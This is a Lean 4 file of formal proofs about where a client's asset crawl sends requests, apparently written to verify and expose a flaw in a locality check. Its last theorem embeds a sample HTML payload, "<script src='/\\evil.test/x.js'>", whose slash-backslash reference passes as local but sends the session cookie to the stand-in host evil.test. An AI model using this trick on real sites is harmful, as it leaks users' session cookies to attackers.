import LiveSession.Proofs.Assets.Candidates
import LiveSession.Proofs.Assets.Locality
import LiveSession.Proofs.Client.Alone

/-!
# Where crawls send requests

A crawl sends a request for each reference of the page that it has to fetch, to the URL that is read
from the text of the resolved reference. It has the origin of the page exactly if the reference names
no other host. A reference that passes for local can name one, which then gets the session's cookies.
-/

namespace LiveSession

namespace Client

variable {ω : Type} {P : Url → Prop} {c c' c'' : Client ω}

/-- Nothing was called but requests, each for the text of a URL in `P`. -/
def Requests (P : Url → Prop) (c c' : Client ω) : Prop :=
  ∃ calls, c'.log = c.log ++ calls ∧ ∀ call ∈ calls, ∃ request cookie base target,
    call = .send request cookie ∧ P target ∧ Url.join base target.text = .ok request.url

theorem Requests.of_log (same : c'.log = c.log) : Requests P c c' :=
  ⟨[], by simp [same], by simp⟩

theorem Requests.trans (h₁ : Requests P c c') (h₂ : Requests P c' c'') : Requests P c c'' := by
  obtain ⟨calls, log, for_⟩ := h₁
  obtain ⟨calls', log', for'⟩ := h₂
  refine ⟨calls ++ calls', by rw [log', log, List.append_assoc], ?_⟩
  intro call member
  exact (List.mem_append.mp member).elim (for_ call) (for' call)

end Client

/-- An action has ended, or it is a crawl of URLs in `P`. -/
def Progress.Crawls (P : Url → Prop) : Progress → Prop
  | .done _ => True
  | .waiting (.crawl crawl) => ∀ f ∈ crawl.fetches, P f.url
  | .waiting _ => False

namespace Client

variable {ω : Type} [Transports ω] {P : Url → Prop}

/-! ### One fetch -/

omit [Transports ω] in
theorem log_receive (c : Client ω) (path : String) (a : Answer) : (c.receive path a).1.log = c.log := by
  unfold receive
  cases a.result <;> rfl

theorem requests_send (c : Client ω) {f : Fetch} (is : P f.url) : Requests P c (c.send f.request).1 := by
  unfold send Profile.resolve
  cases resolved : c.profile.baseUrl.join f.request.path with
  | error fault => exact .of_log rfl
  | ok url =>
    refine ⟨[_], rfl, ?_⟩
    simp only [List.mem_singleton, forall_eq]
    exact ⟨_, _, _, f.url, rfl, is, resolved⟩

theorem requests_pollPending (c : Client ω) (cache : Bool) (f : Fetch) (ticket : Ticket) :
    (c.pollPending cache f ticket).1.log = c.log ∧ (c.pollPending cache f ticket).2.url = f.url := by
  unfold pollPending
  cases Transports.answer? ticket c.world with
  | none => exact ⟨rfl, rfl⟩
  | some a =>
    have log := c.log_receive f.url.text a
    dsimp only
    generalize c.receive f.url.text a = result at log ⊢
    obtain ⟨c', e | response⟩ := result
    · exact ⟨log, rfl⟩
    · cases cache <;> exact ⟨log, rfl⟩

theorem requests_pollFetch (c : Client ω) (cache : Bool) {f : Fetch} (is : P f.url) :
    Requests P c (c.pollFetch cache f).1 ∧ (c.pollFetch cache f).2.url = f.url := by
  unfold pollFetch
  cases f.status with
  | unsent =>
    have sent := c.requests_send is
    dsimp only
    generalize c.send f.request = result at sent ⊢
    obtain ⟨c', e | ticket⟩ := result
    · exact ⟨sent, rfl⟩
    · have ⟨log, url⟩ := c'.requests_pollPending cache f ticket
      exact ⟨sent.trans (.of_log log), url⟩
  | pending ticket =>
    have ⟨log, url⟩ := c.requests_pollPending cache f ticket
    exact ⟨.of_log log, url⟩
  | loaded | failed e => exact ⟨.of_log rfl, rfl⟩

/-! ### A crawl -/

/-- The induction is on the fetches that are still to be looked at. -/
theorem requests_pollFetches (c : Client ω) (cache : Bool) {before rest : List Fetch}
    (are : ∀ f ∈ before ++ rest, P f.url) :
    Requests P c (c.pollFetches cache before rest).1 ∧
      ∀ fetches, (c.pollFetches cache before rest).2 = .ok fetches → ∀ f ∈ fetches, P f.url := by
  induction rest generalizing c before with
  | nil =>
    refine ⟨.of_log rfl, fun fetches ended => ?_⟩
    cases ended
    simpa using are
  | cons f rest ih =>
    have is : P f.url := are f (by simp)
    have ⟨sent, url⟩ := c.requests_pollFetch cache is
    unfold pollFetches
    dsimp only
    generalize c.pollFetch cache f = result at sent url ⊢
    obtain ⟨c', f'⟩ := result
    dsimp only at sent url ⊢
    split
    · exact ⟨sent, nofun⟩
    · have are' : ∀ g ∈ (before ++ [f']) ++ rest, P g.url := by
        intro g member
        simp only [List.mem_append, List.mem_singleton] at member
        rcases member with (earlier | rfl) | later
        · exact are g (List.mem_append_left _ earlier)
        · exact url ▸ is
        · exact are g (List.mem_append_right _ (List.mem_cons_of_mem _ later))
      have ⟨sent', after⟩ := ih c' are'
      exact ⟨sent.trans sent', after⟩

theorem requests_pollCrawlJob (c : Client ω) {crawl : Crawl} (are : ∀ f ∈ crawl.fetches, P f.url) :
    Requests P c (c.pollCrawlJob crawl).1 ∧ (c.pollCrawlJob crawl).2.Crawls P := by
  have all : ∀ f ∈ [] ++ crawl.fetches, P f.url := are
  have ⟨sent, after⟩ := c.requests_pollFetches crawl.cache all
  unfold pollCrawlJob pollCrawl
  generalize c.pollFetches crawl.cache [] crawl.fetches = result at sent after ⊢
  obtain ⟨c', e | fetches⟩ := result
  · exact ⟨sent, trivial⟩
  · dsimp only
    by_cases loaded : fetches.all Fetch.isLoaded = true
    · rw [if_pos loaded]
      exact ⟨sent, trivial⟩
    · rw [if_neg loaded]
      exact ⟨sent, after fetches rfl⟩

/-- What the page refers to, resolved against it. -/
def Referenced (c : Client ω) (a : CrawlAction) (url : Url) : Prop :=
  ∃ page reference, c.session.page = some page ∧
    reference ∈ Assets.references (a.extensions.getD Assets.standardExtensions) page.body ∧
    page.url.join reference = .ok url

omit [Transports ω] in
theorem referenced_crawlOf (c : Client ω) (a : CrawlAction) :
    ∀ f ∈ (c.crawlOf a).fetches, c.Referenced a f.url := by
  unfold crawlOf
  cases current : c.session.page with
  | none => simp
  | some page =>
    dsimp only
    split
    · simp
    · intro f member
      obtain ⟨⟨key, url⟩, candidate, rfl⟩ := List.mem_map.mp member
      obtain ⟨reference, referenced, joined⟩ := Assets.candidate_referenced candidate
      exact ⟨page, reference, current, referenced, joined⟩

end Client

namespace Tab

variable {ω : Type} [Transports ω] {t : Tab ω} {flight : Nat} {P : Url → Prop} {call : TransportCall}

/-! ### Calls of an action -/

def calls (t : Tab ω) (event : TabEvent ω) : List TransportCall :=
  (t.step event).client.log.drop t.client.log.length

/-- The call is made by an action that is started on the tab: at its start, or when it is carried on
after some events. -/
inductive Issues (t : Tab ω) (action : Action) (call : TransportCall) : Prop
  | starting (made : call ∈ t.calls (.dispatch action))
  | carriedOn (events : List (TabEvent ω))
      (made : call ∈ ((t.step (.dispatch action)).run events).calls (.poll t.flights.length))

theorem calls_of_requests {event : TabEvent ω} (sent : t.client.Requests P (t.step event).client)
    (made : call ∈ t.calls event) : ∃ request cookie base target,
      call = .send request cookie ∧ P target ∧ Url.join base target.text = .ok request.url := by
  obtain ⟨calls, log, for_⟩ := sent
  rw [Tab.calls, log, List.drop_left] at made
  exact for_ call made

theorem crawls_step (crawls : Carrying (fun _ progress => progress.Crawls P) flight t)
    (event : TabEvent ω) : Carrying (fun _ progress => progress.Crawls P) flight (t.step event) := by
  obtain ⟨progress, time, found, crawls⟩ := crawls
  have below := (List.getElem?_eq_some_iff.mp found).1
  by_cases polled : event = .poll flight
  · subst polled
    cases progress with
    | done result =>
      rw [step, poll_ended found]
      exact ⟨_, time, found, crawls⟩
    | waiting job =>
      cases job with
      | crawl crawl =>
        rw [step, poll_action found]
        exact ⟨_, _, List.getElem?_set_self below, (t.client.requests_pollCrawlJob crawls).2⟩
      | _ => cases crawls
  · exact ⟨progress, time, (flights_step_other (subject_ne below polled)).trans found, crawls⟩

theorem crawls_run (crawls : Carrying (fun _ progress => progress.Crawls P) flight t)
    (events : List (TabEvent ω)) :
    Carrying (fun _ progress => progress.Crawls P) flight (t.run events) := by
  induction events generalizing t with
  | nil => exact crawls
  | cons event events ih => exact ih (crawls_step crawls event)

theorem requests_poll (crawls : Carrying (fun _ progress => progress.Crawls P) flight t) :
    t.client.Requests P (t.step (.poll flight)).client := by
  obtain ⟨progress, time, found, crawls⟩ := crawls
  cases progress with
  | done result =>
    rw [step, poll_ended found]
    exact .of_log rfl
  | waiting job =>
    cases job with
    | crawl crawl =>
      rw [step, poll_action found]
      exact (t.client.requests_pollCrawlJob crawls).1
    | _ => cases crawls

theorem requests_of_issues {a : CrawlAction} (issued : t.Issues (.loadStaticAssets a) call) :
    ∃ request cookie base target, call = .send request cookie ∧ t.client.Referenced a target ∧
      Url.join base target.text = .ok request.url := by
  have ⟨sent, crawls⟩ := t.client.requests_pollCrawlJob (t.client.referenced_crawlOf a)
  cases issued with
  | starting made => exact calls_of_requests sent made
  | carriedOn events made =>
    exact calls_of_requests (requests_poll (crawls_run (carrying_launch crawls) events)) made

/-! ### Their origin -/

/-- Whatever else happens on the tab, a crawl sends nothing but requests for references in the page.
A request has the origin of the page exactly if its reference names no other host. -/
theorem crawl_origin (t : Tab ω) (a : CrawlAction) {page : Page} {text : String}
    (current : t.client.session.page = some page) (written : Url.parse text = .ok page.url)
    (web : Url.IsWeb page.url.scheme) (issued : t.Issues (.loadStaticAssets a) call) :
    ∃ request cookie reference, call = .send request cookie ∧
      reference ∈ Assets.references (a.extensions.getD Assets.standardExtensions) page.body ∧
      (request.url.sameOrigin page.url ↔ Assets.IsHomely page.url reference) := by
  obtain ⟨request, cookie, base, target, is, ⟨page', reference, current', referenced, joined⟩, read⟩ :=
    requests_of_issues issued
  cases current.symm.trans current'
  have canonical := Url.canonical_of_parse written web
  have isLocal : Assets.isLocal reference = true := by
    have kept := (List.mem_filter.mp (Assets.mem_of_mem_firstsBy referenced)).2
    exact (Bool.and_eq_true_iff.mp kept).1
  exact ⟨request, cookie, reference, is, referenced,
    Assets.sameOrigin_iff_isHomely canonical isLocal joined read⟩

def home : Url :=
  { scheme := "http", host := some (.domain "localhost"), path := .segments [""] }

theorem parse_home : Url.parse "http://localhost/" = .ok home := rfl

/-- A tab that has loaded a page and been given a cookie. -/
def visiting (body : String) : Tab Scenario.Servers :=
  let servers : Scenario.Servers :=
    { routes := [{ path := "/", body, setCookies := ["session=secret"] }] }
  let profile : Profile := { identity := "visitor", level := .off, baseUrl := home }
  run { client := { profile, world := servers } } [.dispatch (.get "/")]

omit [Transports ω] in
theorem exists_page (t : Tab ω) (url : Url) (body : String)
    (loaded : (t.client.session.page.any fun page => page.url == url && page.body == body) = true) :
    ∃ page, t.client.session.page = some page ∧ page.url = url ∧ page.body = body := by
  obtain ⟨page, current, is⟩ := (Option.any_eq_true _ _).mp loaded
  rw [Bool.and_eq_true, beq_iff_eq, beq_iff_eq] at is
  exact ⟨page, current, is⟩

theorem exists_issued (t : Tab ω) (action : Action) (p : HttpRequest → Option String → Bool)
    (sent : ((t.calls (.dispatch action)).any fun
      | .send request cookie => p request cookie
      | _ => false) = true) :
    ∃ request cookie, t.Issues action (.send request cookie) ∧ p request cookie = true := by
  obtain ⟨call, member, is⟩ := List.any_eq_true.mp sent
  cases call with
  | send request cookie => exact ⟨request, cookie, .starting member, is⟩
  | _ => cases is

/-- A reference that begins with a slash and a backslash and names the host of the page itself. -/
theorem crawl_origin_home :
    let t := visiting "<img src='/\\localhost/a.png'>"
    ∃ page request cookie reference, t.client.session.page = some page ∧
      Url.parse "http://localhost/" = .ok page.url ∧ Url.IsWeb page.url.scheme ∧
      t.Issues (.loadStaticAssets {}) (.send request cookie) ∧
      reference ∈ Assets.references Assets.standardExtensions page.body ∧
      (request.url.sameOrigin page.url ↔ Assets.IsHomely page.url reference) := by
  intro t
  obtain ⟨page, current, url, _⟩ := exists_page t home "<img src='/\\localhost/a.png'>"
    (by decide +kernel)
  obtain ⟨request, cookie, issued, _⟩ := exists_issued t (.loadStaticAssets {}) (fun _ _ => true)
    (by decide +kernel)
  have written : Url.parse "http://localhost/" = .ok page.url := url ▸ parse_home
  have web : Url.IsWeb page.url.scheme := url ▸ .inl rfl
  obtain ⟨_, _, reference, same, referenced, origin⟩ := crawl_origin t {} current written web issued
  cases same
  exact ⟨page, request, cookie, reference, current, written, web, issued, referenced, origin⟩

/-- A reference that passes for local, but names another host behind a slash and a backslash: that
host gets a request, with the cookie of the session. -/
theorem crawl_elsewhere :
    let t := visiting "<script src='/\\evil.test/x.js'></script>"
    ∃ page request, t.client.session.page = some page ∧
      Url.parse "http://localhost/" = .ok page.url ∧ Url.IsWeb page.url.scheme ∧
      t.Issues (.loadStaticAssets {}) (.send request (some "session=secret")) ∧
      request.url.host = some (.domain "evil.test") ∧ ¬ request.url.sameOrigin page.url := by
  intro t
  obtain ⟨page, current, url, _⟩ := exists_page t home "<script src='/\\evil.test/x.js'></script>"
    (by decide +kernel)
  obtain ⟨request, cookie, issued, is⟩ := exists_issued t (.loadStaticAssets {})
    (fun request cookie => request.url.host == some (.domain "evil.test") &&
      cookie == some "session=secret")
    (by decide +kernel)
  rw [Bool.and_eq_true, beq_iff_eq, beq_iff_eq] at is
  obtain ⟨host, rfl⟩ := is
  refine ⟨page, request, current, url ▸ parse_home, url ▸ .inl rfl, issued, host, ?_⟩
  intro same
  have home_host := same.2.1
  rw [host, url] at home_host
  exact absurd home_host (by decide)

end Tab

end LiveSession
